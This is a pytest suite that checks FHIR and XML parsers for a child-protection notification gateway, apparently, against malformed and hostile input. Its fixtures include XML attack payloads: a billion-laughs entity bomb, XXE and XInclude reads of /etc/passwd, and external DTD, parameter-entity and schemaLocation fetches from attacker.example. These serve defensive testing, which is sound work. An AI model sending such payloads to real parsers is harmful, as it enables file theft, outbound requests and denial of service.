"""The format adapters on their own: each shipped twin maps to exactly its JSON example, every
malformed or hostile input is a SchemaInvalid with the path of the problem and no value from
the body, and (hypothesis) nothing else ever escapes either parser."""

from __future__ import annotations

import copy
import json
import socket
from collections.abc import Callable, Iterator
from datetime import date
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.formats import default_formats
from adapters.formats.fhir import (
    CS_ABUSE_CATEGORY,
    CS_FACT,
    CS_RELATIONSHIP,
    EXT_PATIENT_INTERPRETER,
    MAX_DEPTH,
    V3_ROLE_CODE,
    FhirR4,
    xhtml_text,
)
from adapters.formats.xml import HOSTILE, CmrXml
from gateway.errors import FieldError, SchemaInvalid
from gateway.intake.validation import NotificationValidator
from gateway.paths import DEFAULT_SCHEMAS_DIR
from tests.support import EXAMPLES, example

# A value no message may ever contain: it stands for the personal data in a body.
MARKER = "ZZSECRETZZ"

FHIR = FhirR4()
XML = CmrXml()
FUZZ = settings(
    max_examples=150,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)


def fhir_example(stem: str = "harm-route") -> dict[str, Any]:
    result: dict[str, Any] = json.loads((EXAMPLES / f"{stem}.fhir.json").read_text())
    return result


def xml_example(stem: str = "harm-route") -> str:
    return (EXAMPLES / f"{stem}.cmr.xml").read_text(encoding="utf-8")


def errors_of(call: Callable[[], Any]) -> list[FieldError]:
    with pytest.raises(SchemaInvalid) as caught:
        call()
    errors = caught.value.errors
    assert errors
    assert MARKER not in json.dumps([e.as_dict() for e in errors])
    return errors


def has(errors: list[FieldError], pointer: str, fragment: str = "") -> bool:
    return any(e.pointer == pointer and fragment in e.message for e in errors)


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Any attempt to resolve or reach a host fails the test loudly (not as SchemaInvalid)."""

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the parser tried to use the network")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    yield


# -- twins --------------------------------------------------------------------------------------

TWINS = [
    ("fhir-r4", "harm-route.fhir.json", "harm-route"),
    ("fhir-r4", "good-practice.fhir.json", "good-practice"),
    ("cmr-xml/1", "harm-route.cmr.xml", "harm-route"),
    ("cmr-xml/1", "good-practice.cmr.xml", "good-practice"),
]


@pytest.mark.parametrize(("fmt", "file", "stem"), TWINS)
def test_each_shipped_example_maps_to_its_json_twin(fmt: str, file: str, stem: str) -> None:
    adapter = default_formats().get(fmt)
    assert adapter is not None
    text = (EXAMPLES / file).read_text(encoding="utf-8")
    body = text if fmt == "cmr-xml/1" else json.loads(text)
    document = adapter.to_canonical(body)
    assert document == example(stem)
    validator = NotificationValidator.from_file(
        DEFAULT_SCHEMAS_DIR / "cmr-notification-1.schema.json"
    )
    assert validator.validate(document, date(2026, 12, 1)).document == example(stem)


def test_the_registry_knows_all_three_formats() -> None:
    assert default_formats().names() == ["cmr-notification/1", "cmr-xml/1", "fhir-r4"]


# -- cmr-xml/1: malformed and hostile -----------------------------------------------------------


def _xml_with(old: str, new: str, stem: str = "harm-route") -> str:
    text = xml_example(stem)
    assert old in text
    return text.replace(old, new, 1)


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE notification [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<notification xmlns="https://sbni.example/schemas/cmr-xml/1">&lol9;</notification>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE notification [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    '<notification xmlns="https://sbni.example/schemas/cmr-xml/1">&xxe;</notification>'
)
EXTERNAL_DTD = xml_example().replace(
    "<notification ",
    '<!DOCTYPE notification SYSTEM "http://attacker.example/cmr.dtd">\n<notification ',
    1,
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE notification [<!ENTITY % remote SYSTEM '
    '"http://attacker.example/x.dtd"> %remote;]>\n<notification/>'
)
EMPTY_DTD = (
    '<!DOCTYPE notification []><notification xmlns="https://sbni.example/schemas/cmr-xml/1"/>'
)

XML_CASES: list[tuple[str, Any, str, str]] = [
    # (case, body, pointer, fragment of the message)
    ("not XML", f"{MARKER} is not XML", "/", "not well-formed XML"),
    ("unclosed tag", "<notification><route>", "/", "(line 1, column"),
    ("mismatched tag", _xml_with("</route>", "</rout>"), "/", "mismatched tag (line 4"),
    ("undefined entity", _xml_with("harm</route>", "&marker;</route>"), "/", "undefined entity"),
    ("two roots", xml_example() + "<notification/>", "/", "junk after document element"),
    ("empty", "", "/", "no element found"),
    ("not a string", {"notification": MARKER}, "/", "must be an XML document as a string"),
    ("lone surrogate", "<notification>\ud800</notification>", "/", "Unicode"),
    ("billion laughs", BILLION_LAUGHS, "/", HOSTILE),
    ("external entity", EXTERNAL_ENTITY, "/", HOSTILE),
    ("external DTD", EXTERNAL_DTD, "/", HOSTILE),
    ("parameter entity", PARAMETER_ENTITY, "/", HOSTILE),
    ("internal DTD", EMPTY_DTD, "/", HOSTILE),
    (
        "deep nesting",
        "<notification>" + "<a>" * 200 + "</a>" * 200 + "</notification>",
        "/notification" + "/a" * (MAX_DEPTH - 1),
        "nested more than 32 levels",
    ),
    ("many elements", "<n>" + "<a/>" * 20_001 + "</n>", "/", "more than 20000 elements"),
    (
        "xsi:type",
        _xml_with(
            "<route>",
            '<route xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="x">',
        ),
        "/notification/route",
        "attributes are not allowed (line 4)",
    ),
    (
        "schemaLocation hint",
        _xml_with(
            'xmlns="https://sbni.example/schemas/cmr-xml/1"',
            'xmlns="https://sbni.example/schemas/cmr-xml/1" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xsi:schemaLocation="https://sbni.example/schemas/cmr-xml/1 http://attacker.example/x"',
        ),
        "/notification",
        "attributes are not allowed",
    ),
    (
        "XInclude",
        _xml_with(
            "</notifier>",
            '</notifier><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            'href="file:///etc/passwd"/>',
        ),
        "/notification/include",
        "attributes are not allowed",
    ),
    ("wrong root", "<report/>", "/report", "must be the element notification"),
    (
        "no namespace",
        _xml_with(' xmlns="https://sbni.example/schemas/cmr-xml/1"', ""),
        "/notification",
        "in namespace https://sbni.example/schemas/cmr-xml/1 (line 3)",
    ),
    (
        "XSD: impossible date",
        _xml_with("<dateOfBirth>2019-03-14", "<dateOfBirth>2019-02-30"),
        "/notification/children/child[2]/dateOfBirth",
        "must be a date (YYYY-MM-DD) (line",
    ),
    (
        "XSD: date with a time zone",
        _xml_with("<date>2026-02-10", "<date>2026-02-10Z"),
        "/notification/incident/date",
        "must be a date",
    ),
    (
        "XSD: enumeration",
        _xml_with("<gender>female</gender>", f"<gender>{MARKER}</gender>"),
        "/notification/children/child[1]/gender",
        "must be one of: male, female, other, unknown",
    ),
    (
        "XSD: boolean",
        _xml_with("<childDied>false", f"<childDied>{MARKER}"),
        "/notification/reg17/childDied",
        "must be true or false",
    ),
    (
        "XSD: missing element",
        _xml_with("<familyName>Example</familyName>", ""),
        "/notification/children/child[1]/dateOfBirth",
        "unexpected element dateOfBirth (expected familyName)",
    ),
    (
        "XSD: incomplete element",
        _xml_with("<email>pat.exampleson@bhsct.example</email>", "").replace(
            "<phone>028 9000 0000</phone>", ""
        ),
        "/notification/notifier",
        "is missing an element: email",
    ),
    (
        "XSD: unknown element",
        _xml_with("</notifier>", f"</notifier><secret>{MARKER}</secret>"),
        "/notification/secret",
        "unexpected element secret",
    ),
    (
        "XSD: text between elements",
        _xml_with("<incident>", f"<incident>{MARKER}"),
        "/notification/incident",
        "no text between them",
    ),
    (
        "XSD: element inside text",
        _xml_with("<place>", "<place><b/>"),
        "/notification/incident/place",
        "must hold text only",
    ),
    (
        "XSD: too long",
        _xml_with("<town>Belfast", "<town>" + MARKER * 20),
        "/notification/children/child[1]/address/town",
        "is longer than 100 characters",
    ),
    (
        "XSD: empty",
        _xml_with("<givenName>Lena", "<givenName>"),
        "/notification/children/child[1]/givenName",
        "must not be empty",
    ),
    (
        "XSD: email",
        _xml_with("<email>pat.exampleson", f"<email>{MARKER} "),
        "/notification/notifier/email",
        "must be an email address",
    ),
    (
        "XSD: stated age",
        _xml_with("<years>15", "<years>18", "good-practice"),
        "/notification/children/child[1]/statedAge/years",
        "must be at most 17",
    ),
    (
        "canonical: harm without reg17",
        _xml_with(
            xml_example()[xml_example().index("<reg17>") : xml_example().index("</reg17>") + 8],
            "",
        ),
        "/notification",
        "is required: reg17 (canonical /; line 3)",
    ),
    (
        "canonical: duplicate category",
        _xml_with("<category>neglect</category>", "<category>physical</category>"),
        "/notification/reg17/abuseCategories",
        "must not contain duplicate items (canonical /reg17/abuse_categories; line",
    ),
    (
        "canonical: interpreter without language",
        _xml_with("<language>Polish</language>", ""),
        "/notification/adults/adult[1]/interpreter",
        "is required: language (canonical /adults/0/interpreter",
    ),
    (
        "canonical: born after the incident",
        _xml_with("<dateOfBirth>2019-03-14", "<dateOfBirth>2026-03-01"),
        "/notification/children/child[2]/dateOfBirth",
        "is after the incident date (canonical /children/1/date_of_birth; line",
    ),
    (
        "canonical: no death or harm on the harm route",
        _xml_with("<significantHarm>true", "<significantHarm>false"),
        "/notification/reg17",
        "must have child_died or significant_harm true",
    ),
]


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    ("body", "pointer", "fragment"),
    [pytest.param(body, pointer, fragment, id=case) for case, body, pointer, fragment in XML_CASES],
)
def test_malformed_and_hostile_xml(body: Any, pointer: str, fragment: str) -> None:
    errors = errors_of(lambda: XML.to_canonical(body))
    assert has(errors, pointer, fragment), errors


def test_xml_white_space_and_booleans_follow_the_xsd() -> None:
    body = _xml_with("<childDied>false", "<childDied> 0 ").replace(
        "<date>2026-02-10</date>", "<date>\n  2026-02-10\n</date>"
    )
    document = XML.to_canonical(body)
    assert document["reg17"]["child_died"] is False
    assert document["incident"]["date"] == "2026-02-10"


def test_xml_comments_and_processing_instructions_are_ignored() -> None:
    body = _xml_with("<route>", "<!-- a comment --><?app data?><route>")
    assert XML.to_canonical(body) == example()


def test_xml_errors_are_capped() -> None:
    body = _xml_with("</notifier>", "</notifier>" + "<x/>" * 500)
    assert len(errors_of(lambda: XML.to_canonical(body))) <= 100


# -- fhir-r4: malformed and hostile -------------------------------------------------------------


def _index(bundle: dict[str, Any], kind: str, nth: int = 0) -> int:
    found = [i for i, e in enumerate(bundle["entry"]) if e["resource"]["resourceType"] == kind]
    return found[nth]


def _fact(bundle: dict[str, Any], code: str) -> int:
    for i, entry in enumerate(bundle["entry"]):
        resource = entry["resource"]
        if resource["resourceType"] == "Observation" and resource["code"]["coding"][0] == {
            "system": CS_FACT,
            "code": code,
        }:
            return i
    raise AssertionError(code)


Mutation = Callable[[dict[str, Any]], Any]


def _without(kind: str) -> Mutation:
    def mutate(b: dict[str, Any]) -> None:
        b["entry"] = [e for e in b["entry"] if e["resource"]["resourceType"] != kind]

    return mutate


def _patient(**changes: Any) -> Mutation:
    def mutate(b: dict[str, Any]) -> None:
        b["entry"][_index(b, "Patient")]["resource"].update(changes)

    return mutate


def _section_div(div: str) -> Mutation:
    def mutate(b: dict[str, Any]) -> None:
        b["entry"][0]["resource"]["section"][1]["text"]["div"] = div

    return mutate


def _deep(levels: int) -> Mutation:
    def mutate(b: dict[str, Any]) -> None:
        nested: dict[str, Any] = {"url": "https://x.example", "valueString": MARKER}
        for _ in range(levels):
            nested = {"url": "https://x.example", "extension": [nested]}
        b["entry"][_index(b, "Patient")]["resource"]["extension"] = [nested]

    return mutate


def _set_fact(code: str, **value: Any) -> Mutation:
    def mutate(b: dict[str, Any]) -> None:
        resource = b["entry"][_fact(b, code)]["resource"]
        for key in [k for k in resource if k.startswith("value")]:
            del resource[key]
        resource.update(value)

    return mutate


_HARM = fhir_example()
ENCOUNTER = _index(_HARM, "Encounter")
RELATED = _index(_HARM, "RelatedPerson")
CHILD_DIED = _fact(_HARM, "child-died")
LOOKED_AFTER = _fact(_HARM, "looked-after-child")
APPENDED = len(_HARM["entry"])


FHIR_CASES: list[tuple[str, Mutation | Any, str, str]] = [
    # (case, mutation of the harm-route bundle or a whole body, pointer, fragment)
    ("not an object", [MARKER], "", "must be a FHIR Bundle"),
    ("not a Bundle", {"resourceType": "Patient", "id": MARKER}, "/resourceType", "must be Bundle"),
    ("transaction Bundle", lambda b: b.update(type="transaction"), "/type", "document, collection"),
    ("no entries", lambda b: b.update(entry=[]), "/entry", "is required"),
    (
        "wrong resource type",
        lambda b: b["entry"][1]["resource"].update(resourceType="Medication"),
        "/entry/1/resource/resourceType",
        "must be one of: Composition",
    ),
    (
        "unknown resource type",
        lambda b: b["entry"][1]["resource"].update(resourceType=MARKER),
        "/entry/1/resource/resourceType",
        "must be one of",
    ),
    (
        "entry not an object",
        lambda b: b["entry"].append(MARKER),
        f"/entry/{APPENDED}",
        "must be an object",
    ),
    (
        "contained resources",
        _patient(contained=[{"resourceType": MARKER}]),
        "/entry/1/resource/contained",
        "is not allowed",
    ),
    ("missing Patient", _without("Patient"), "/entry", "is required: a Patient for each child"),
    ("missing Composition", _without("Composition"), "/entry", "is required: a Composition"),
    ("missing Encounter", _without("Encounter"), "/entry", "is required: an Encounter"),
    (
        "two Encounters",
        lambda b: b["entry"].append(copy.deepcopy(b["entry"][_index(b, "Encounter")])),
        f"/entry/{APPENDED}/resource",
        "must be the only Encounter",
    ),
    ("deep nesting", _deep(60), "/entry/1/resource" + "/extension/0" * 15, "nested more than 32"),
    ("too many entries", lambda b: b["entry"].extend([b["entry"][-1]] * 500), "/entry", "at most"),
    ("FHIR: impossible date", _patient(birthDate="2025-02-30"), "/entry/1/resource/birthDate", ""),
    (
        "FHIR: unknown element",
        _patient(secret=MARKER),
        "/entry/1/resource/secret",
        "not an element",
    ),
    ("FHIR: wrong JSON type", _patient(name=MARKER), "/entry/1/resource/name", "must be an array"),
    (
        "FHIR: string boolean",
        _patient(deceasedBoolean="yes"),
        "/entry/1/resource/deceasedBoolean",
        "boolean",
    ),
    (
        "FHIR: missing required element",
        lambda b: b["entry"][_index(b, "Encounter")]["resource"].pop("status"),
        f"/entry/{ENCOUNTER}/resource/status",
        "is required",
    ),
    (
        "XHTML with a DTD",
        _section_div(
            '<!DOCTYPE div [<!ENTITY a "b">]><div xmlns="http://www.w3.org/1999/xhtml">&a;</div>'
        ),
        "/entry/0/resource/section/1/text/div",
        "DTDs and entities are not allowed",
    ),
    (
        "XHTML not well-formed",
        _section_div(f'<div xmlns="http://www.w3.org/1999/xhtml">{MARKER}'),
        "/entry/0/resource/section/1/text/div",
        "must be well-formed XHTML (no element found at line 1",
    ),
    (
        "XHTML not a div",
        _section_div(f"<p>{MARKER}</p>"),
        "/entry/0/resource/section/1/text/div",
        "must be a div in the XHTML namespace",
    ),
    (
        "notifier not in the Bundle",
        lambda b: b["entry"][0]["resource"]["author"][0].update(reference=f"urn:uuid:{MARKER}"),
        "/entry/0/resource/author/0/reference",
        "must refer to a PractitionerRole or Practitioner",
    ),
    (
        "no route",
        lambda b: b["entry"][0]["resource"].pop("category"),
        "/entry/0/resource/category",
        "is required: a coding in https://sbni.example/fhir/CodeSystem/cmr-route",
    ),
    (
        "unknown section code",
        lambda b: b["entry"][0]["resource"]["section"][1]["code"]["coding"][0].update(code=MARKER),
        "/entry/0/resource/section/1/code/coding/0/code",
        "must be a code of",
    ),
    (
        "unknown fact code",
        lambda b: b["entry"][_fact(b, "child-died")]["resource"]["code"]["coding"][0].update(
            code=MARKER
        ),
        f"/entry/{CHILD_DIED}/resource/code/coding/0/code",
        "must be a code of",
    ),
    (
        "fact with the wrong value type",
        _set_fact("child-died", valueString=MARKER),
        f"/entry/{CHILD_DIED}/resource",
        "is required: valueBoolean",
    ),
    (
        "relationship not coded",
        lambda b: b["entry"][_index(b, "RelatedPerson")]["resource"].update(
            relationship=[{"text": MARKER}]
        ),
        f"/entry/{RELATED}/resource/relationship",
        "is required: a coding in",
    ),
    (
        "canonical: gender",
        _patient(gender=MARKER),
        "/entry/1/resource/gender",
        "must be one of: male, female, other, unknown (canonical /children/0/gender)",
    ),
    (
        "canonical: gender missing",
        lambda b: b["entry"][1]["resource"].pop("gender"),
        "/entry/1/resource",
        "is required: gender (canonical /children/0)",
    ),
    (
        "canonical: partial birth date",
        _patient(birthDate="2025"),
        "/entry/1/resource/birthDate",
        "must be a date (YYYY-MM-DD) (canonical /children/0/date_of_birth)",
    ),
    (
        "canonical: born after the incident",
        _patient(birthDate="2026-05-01"),
        "/entry/1/resource/birthDate",
        "is after the incident date",
    ),
    (
        "canonical: status code",
        _set_fact(
            "looked-after-child",
            valueCodeableConcept={
                "coding": [
                    {
                        "system": "https://sbni.example/fhir/CodeSystem/cmr-register-status",
                        "code": MARKER,
                    }
                ]
            },
        ),
        f"/entry/{LOOKED_AFTER}/resource/valueCodeableConcept/coding/0/code",
        "must be one of: current, previous, never, unknown (canonical /reg17/looked_after/child)",
    ),
    (
        "canonical: no death or harm on the harm route",
        _set_fact("significant-harm", valueBoolean=False),
        f"/entry/{CHILD_DIED}/resource",
        "must have child_died or significant_harm true for route harm (canonical /reg17)",
    ),
    (
        "canonical: a Reg 17 fact missing",
        lambda b: b["entry"].pop(_fact(b, "looked-after-siblings")),
        f"/entry/{LOOKED_AFTER}/resource",
        "is required: siblings (canonical /reg17/looked_after)",
    ),
    (
        "canonical: no case outline",
        lambda b: b["entry"][0]["resource"]["section"].pop(1),
        "/entry/0/resource/section",
        "is required: case_outline (canonical /narratives)",
    ),
]


@pytest.mark.parametrize(
    ("change", "pointer", "fragment"),
    [
        pytest.param(change, pointer, fragment, id=case)
        for case, change, pointer, fragment in FHIR_CASES
    ],
)
def test_malformed_and_hostile_fhir(change: Any, pointer: str, fragment: str) -> None:
    if callable(change):
        body = fhir_example()
        change(body)
    else:
        body = change
    errors = errors_of(lambda: FHIR.to_canonical(body))
    assert has(errors, pointer, fragment), errors


def test_fhir_v3_relationships_deceased_date_and_other_identifiers() -> None:
    bundle = fhir_example()
    mother = bundle["entry"][_index(bundle, "RelatedPerson")]["resource"]
    mother["relationship"] = [{"coding": [{"system": V3_ROLE_CODE, "code": "NMTH"}]}]
    lena = bundle["entry"][_index(bundle, "Patient")]["resource"]
    del lena["deceasedBoolean"]
    lena["deceasedDateTime"] = "2026-02-11T03:00:00Z"
    lena["identifier"].append({"system": "https://records.example/id", "value": "X1"})
    document = FHIR.to_canonical(bundle)
    assert document["adults"][0]["relationship"] == "mother"
    assert document["children"][0]["died"] is True
    assert document["children"][0]["identifiers"][-1] == {"system": "other", "value": "X1"}


def test_fhir_own_codes_win_over_v3_and_foreign_resources_are_ignored() -> None:
    bundle = fhir_example()
    mother = bundle["entry"][_index(bundle, "RelatedPerson")]["resource"]
    mother["relationship"].insert(0, {"coding": [{"system": V3_ROLE_CODE, "code": "FTH"}]})
    patient_ref = {"reference": bundle["entry"][1]["fullUrl"]}
    # A clinical Condition and Observation, and a section of the sender's own, are not ours.
    bundle["entry"] += [
        {
            "resource": {
                "resourceType": "Condition",
                "code": {"coding": [{"system": "http://snomed.info/sct", "code": "82271004"}]},
                "subject": patient_ref,
            }
        },
        {
            "resource": {
                "resourceType": "Observation",
                "status": "final",
                "code": {"coding": [{"system": "http://loinc.org", "code": "8302-2"}]},
                "valueString": "not a fact",
            }
        },
    ]
    bundle["entry"][0]["resource"]["section"].append(
        {"title": "Other", "text": {"status": "generated", "div": "<div>x</div>"}}
    )
    assert FHIR.to_canonical(bundle) == example()


def test_fhir_abuse_categories_from_flags_and_conditions_in_entry_order() -> None:
    bundle = fhir_example()
    patient_ref = {"reference": bundle["entry"][1]["fullUrl"]}
    flag = {
        "resourceType": "Flag",
        "status": "active",
        "code": {"coding": [{"system": CS_ABUSE_CATEGORY, "code": "emotional"}]},
        "subject": patient_ref,
    }
    bundle["entry"].insert(1, {"resource": flag})
    document = FHIR.to_canonical(bundle)
    assert document["reg17"]["abuse_categories"] == ["emotional", "physical", "neglect"]


def test_fhir_relationship_must_be_known() -> None:
    bundle = fhir_example()
    person = bundle["entry"][_index(bundle, "RelatedPerson")]["resource"]
    person["relationship"] = [{"coding": [{"system": CS_RELATIONSHIP, "code": MARKER}]}]
    errors = errors_of(lambda: FHIR.to_canonical(bundle))
    assert has(errors, f"/entry/{RELATED}/resource/relationship/0/coding/0/code", "must be one of")


def test_fhir_interpreter_from_the_core_extension_and_communication() -> None:
    bundle = fhir_example()
    lena = bundle["entry"][_index(bundle, "Patient")]["resource"]
    for extension in lena["extension"]:
        if extension["url"] == EXT_PATIENT_INTERPRETER:
            extension["valueBoolean"] = True
    lena["communication"] = [
        {"language": {"coding": [{"system": "urn:ietf:bcp:47", "code": "en"}]}},
        {
            "language": {"coding": [{"system": "urn:ietf:bcp:47", "display": "Polish"}]},
            "preferred": True,
        },
    ]
    document = FHIR.to_canonical(bundle)
    assert document["children"][0]["interpreter"] == {"needed": True, "language": "Polish"}


def test_xhtml_text_is_laid_out_as_a_browser_would() -> None:
    div = (
        '<div xmlns="http://www.w3.org/1999/xhtml">\n  <p>First   paragraph,\n'
        "  <b>bold</b> &amp; more.</p>\n  <p>Second<br/>line</p>\n</div>"
    )
    assert xhtml_text(div) == "First paragraph, bold & more.\nSecond\nline"


# -- hypothesis: nothing but SchemaInvalid escapes ---------------------------------------------


def _outcome(call: Callable[[], Any]) -> Any:
    try:
        result = call()
    except SchemaInvalid as exc:
        assert exc.errors
        assert all(isinstance(e.pointer, str) and e.message for e in exc.errors)
        return exc
    assert isinstance(result, dict)
    return result


XML_TOKENS = st.sampled_from(
    [
        "<",
        ">",
        "/>",
        "</",
        "notification",
        ' xmlns="https://sbni.example/schemas/cmr-xml/1"',
        "<route>",
        "harm",
        "</route>",
        "<!DOCTYPE",
        "<!ENTITY",
        "&",
        ";",
        "&#0;",
        "&#x10FFFF;",
        "<![CDATA[",
        "]]>",
        "<?xml",
        "?>",
        "<!--",
        "-->",
        '"',
        "'",
        "=",
        " ",
        "\n",
        "xsi:type",
        "%",
        "\x00",
        "\ud800",
    ]
)


@FUZZ
@given(st.text())
def test_fuzz_xml_arbitrary_text(text: str) -> None:
    _outcome(lambda: XML.to_canonical(text))


@FUZZ
@given(st.binary().map(lambda raw: raw.decode("latin-1")))
def test_fuzz_xml_bytes_as_text(text: str) -> None:
    _outcome(lambda: XML.to_canonical(text))


@FUZZ
@given(st.lists(XML_TOKENS | st.text(max_size=5), max_size=60).map("".join))
def test_fuzz_xml_token_soup(text: str) -> None:
    _outcome(lambda: XML.to_canonical(text))


HARM_XML = xml_example()


@FUZZ
@given(
    st.integers(0, len(HARM_XML)),
    st.integers(0, 40),
    st.text(max_size=20) | XML_TOKENS,
)
def test_fuzz_xml_spliced_example(at: int, cut: int, insert: str) -> None:
    """The shipped example with a stretch cut out and something else put in its place."""
    _outcome(lambda: XML.to_canonical(HARM_XML[:at] + insert + HARM_XML[at + cut :]))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


@FUZZ
@given(JSON)
def test_fuzz_fhir_arbitrary_json(body: Any) -> None:
    _outcome(lambda: FHIR.to_canonical(body))


def _paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _paths(item, (*path, index))


HARM_BUNDLE = fhir_example()
BUNDLE_PATHS = [p for p in _paths(HARM_BUNDLE) if p]
FHIR_VALUES = (
    JSON
    | st.sampled_from(
        ["Patient", "Bundle", "Medication", "urn:uuid:x", "2026-13-01", "<div/>", MARKER, True, 0]
    )
    | st.just({"resourceType": "Patient", "gender": MARKER})
)


@FUZZ
@given(st.lists(st.tuples(st.sampled_from(BUNDLE_PATHS), FHIR_VALUES), min_size=1, max_size=3))
def test_fuzz_fhir_mutated_example(changes: list[tuple[tuple[Any, ...], Any]]) -> None:
    """The shipped bundle with up to three of its values replaced by something else."""
    bundle = copy.deepcopy(HARM_BUNDLE)
    for path, value in changes:
        node: Any = bundle
        try:
            for part in path[:-1]:
                node = node[part]
            node[path[-1]] = value
        except (KeyError, IndexError, TypeError):
            continue  # an earlier change removed this place
    outcome = _outcome(lambda: FHIR.to_canonical(bundle))
    if isinstance(outcome, SchemaInvalid):
        assert MARKER not in json.dumps([e.message for e in outcome.errors])
